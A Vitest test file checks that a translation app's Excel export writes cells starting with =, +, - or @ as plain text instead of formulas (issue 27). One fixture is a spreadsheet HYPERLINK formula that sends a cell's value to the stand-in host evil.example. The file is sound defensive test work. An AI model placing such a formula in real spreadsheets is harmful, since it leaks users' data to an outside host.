import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { createTestApp, freshIp, ADMIN, type TestApp } from '../../../test/app.js';

let t: TestApp;
let admin: { authorization: string };

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.login(ADMIN.username, ADMIN.password);
});
afterAll(() => t.close());

describe('export of a text that looks like a formula (issue 27)', () => {
  it('writes =, +, -, @ cells as Text, never as a formula, with the stored words', async () => {
    const texts = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+1', '-2+3', '@SUM(1)'];
    for (const origin of texts) {
      const add = await t.app.inject({
        method: 'POST',
        url: '/api/translation/add',
        headers: admin,
        payload: { origin_text: origin, optimize_text: '普通', translate_type: 'translate_output' },
        remoteAddress: freshIp(),
      });
      expect(add.statusCode).toBe(200);
    }
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/excel/export/translation_output',
      headers: admin,
      remoteAddress: freshIp(),
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = new Map<string, ExcelJS.Cell>();
    book.worksheets[0]!.eachRow((row) => cells.set(row.getCell(1).text, row.getCell(1)));
    for (const text of texts) {
      const cell = cells.get(text);
      expect(cell, text).toBeDefined();
      expect(cell!.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell!.numFmt).toBe('@');
    }
  });
});
